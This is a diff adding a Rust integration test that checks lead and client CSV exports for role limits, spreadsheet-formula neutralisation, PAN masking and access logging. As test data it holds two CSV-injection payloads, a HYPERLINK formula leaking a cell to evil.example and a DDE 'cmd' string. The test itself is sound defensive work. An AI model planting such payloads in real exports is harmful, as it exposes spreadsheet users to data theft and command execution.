@@ -17,6 +17,7 @@ on_both_stores!(
     round_robin_assignment,
     idempotency_key_replays_the_first_answer,
     duplicates_are_reserved_and_disclosures_recorded,
+    exports_are_scoped_spreadsheet_safe_and_recorded,
 );
 
 async fn pipeline_moves_and_history(store: Store) {
@@ -835,5 +836,120 @@ async fn duplicates_are_reserved_and_disclosures_recorded(store: Store) {
     app.lead(&asha_id, app.log_head().await).await;
     let (s, v) = app.post_as(&a, "/api/leads", asha()).await;
     assert_eq!(s, 201, "{v}");
+    app.stop().await;
+}
+
+/// Rows of a CSV answer (header first).
+fn csv_rows(text: &str) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_string).collect())
+        .collect()
+}
+
+/// Lead and client lists as CSV: only for the roles that may export, with the caller's
+/// filters, formula-like cells kept as text, and every person exported recorded as an access.
+async fn exports_are_scoped_spreadsheet_safe_and_recorded(store: Store) {
+    let app = App::start(store).await;
+    let rm = app.actor(Role::RelationshipManager, Some("MUM-01")).await;
+    let evil = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")";
+    let (first, _) = app
+        .capture(
+            json!({"name": "Farah Khan", "email": "farah@example.in", "source": "partner",
+                        "source_detail": evil}),
+        )
+        .await;
+    app.capture(
+        json!({"name": "Gopal Iyer", "phone": "9822001122", "source": "partner",
+                       "source_detail": "+cmd|' /C calc'!A0"}),
+    )
+    .await;
+    let (_, p) = app
+        .capture(json!({"name": "Hema Pillai", "email": "hema@example.in", "source": "website"}))
+        .await;
+    app.lead(&first, p).await;
+
+    let (s, v) = app.get_as(&rm, "/api/leads/export").await;
+    assert_eq!(s, 403, "{v}");
+    let r = app
+        .http
+        .get(app.url("/api/leads/export?source=partner&sort=created_at&order=asc"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200);
+    assert!(r.headers()["content-type"]
+        .to_str()
+        .unwrap()
+        .starts_with("text/csv"));
+    assert!(r.headers()["content-disposition"]
+        .to_str()
+        .unwrap()
+        .starts_with("attachment; filename=\"leads-"));
+    let rows = csv_rows(&r.text().await.unwrap());
+    assert_eq!(rows[0][..4], ["id", "name", "email", "phone"]);
+    assert_eq!(rows.len(), 3, "the filter holds: {rows:?}");
+    assert_eq!(rows[1][0], first);
+    assert_eq!(rows[1][1], "Farah Khan");
+    assert_eq!(rows[1][2], "farah@example.in");
+    assert_eq!(rows[1][5], format!("'{evil}"), "a formula stays text");
+    assert_eq!(
+        rows[2][3], "+919822001122",
+        "a phone number is left as it is"
+    );
+    assert_eq!(rows[2][5], "'+cmd|' /C calc'!A0");
+    let exports = |db: store::Db| async move {
+        let n: i64 = store::with_db!(&db, pool => {
+            sqlx::query_scalar(
+                "SELECT COUNT(*) FROM events WHERE event_type = 'PiiViewed'
+                   AND CAST(payload AS TEXT) LIKE '%\"export\"%'",
+            )
+            .fetch_one(pool)
+            .await
+            .unwrap()
+        });
+        n
+    };
+    assert_eq!(
+        exports(app.db().clone()).await,
+        2,
+        "each person exported is an access"
+    );
+
+    // Clients: the PAN by its last four characters only.
+    let (s, v) = app
+        .post(
+            "/api/clients",
+            json!({"name": "Irfan Qureshi", "email": "irfan@example.in", "phone": "9811100022",
+                   "pan": "ABQPQ4321K", "date_of_birth": "1980-02-02",
+                   "address": "5 Park Street, Kolkata 700016", "branch": "MUM-01",
+                   "relationship_manager": rm.id}),
+        )
+        .await;
+    assert_eq!(s, 201, "{v}");
+    app.caught_up().await;
+    let (s, _) = app.get_as(&rm, "/api/clients/export").await;
+    assert_eq!(s, 403);
+    let r = app
+        .http
+        .get(app.url("/api/clients/export?status=active"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200);
+    let text = r.text().await.unwrap();
+    assert!(!text.contains("ABQPQ4321K"), "{text}");
+    let rows = csv_rows(&text);
+    assert_eq!(rows.len(), 2, "{rows:?}");
+    assert_eq!(rows[1][1], "Irfan Qureshi");
+    assert_eq!(rows[1][4], "321K");
+    assert_eq!(rows[1][7], "active");
+    assert_eq!(exports(app.db().clone()).await, 3);
+    let (s, v) = app
+        .get("/api/clients/export?branch=not%20a%20branch!")
+        .await;
+    assert_eq!(s, 422, "{v}");
     app.stop().await;
 }
